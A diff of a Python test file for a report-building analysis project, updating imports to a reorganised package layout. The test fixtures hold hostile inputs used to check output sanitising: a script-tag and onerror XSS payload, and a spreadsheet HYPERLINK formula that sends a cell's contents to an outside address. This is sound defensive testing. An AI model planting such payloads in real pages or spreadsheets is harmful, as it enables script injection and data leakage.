@@ -15,14 +15,18 @@ import openpyxl
 import polars as pl
 import pytest
 
-from analysis import datapackage, paths, pictures, report, tables
+from analysis.base import paths
+from analysis.export import datapackage
+from analysis.report import build
+from analysis.report.charts import render
+from analysis.tables import store
 
 SCRIPT = "<script>alert('施策')</script><img src=x onerror=alert(1)>"
 FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'
 BROKEN = r"\ud800"  # half of a surrogate pair, as JSON can hold it
 CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
 CELLS = {"subhead": f"@{SCRIPT}", "section_title": FORMULA, "ministries": [FORMULA, SCRIPT], "doubts": ["+1", "-1"]}
-MEASURES = tables.read("measures", paths.committed()).filter((pl.col("edition") == 2026) & (pl.col("part") == "body"))
+MEASURES = store.read("measures", paths.committed()).filter((pl.col("edition") == 2026) & (pl.col("part") == "body"))
 KEY = MEASURES.sort("first_line")["measure_id"][0]
 
 
@@ -54,9 +58,9 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
     with pytest.MonkeyPatch.context() as patch:
         patch.setenv("IP_PLAN_PROCESSED", str(processed))
         drawn = "<svg></svg>"
-        patch.setattr(pictures, "drawing", lambda specs, folder: nullcontext(lambda: dict.fromkeys(specs, drawn)))
+        patch.setattr(render, "drawing", lambda specs, folder: nullcontext(lambda: dict.fromkeys(specs, drawn)))
         attack(processed)
-        report.build(2026, 2019, "en", out)
+        build.build(2026, 2019, "en", out)
     return out
 
 
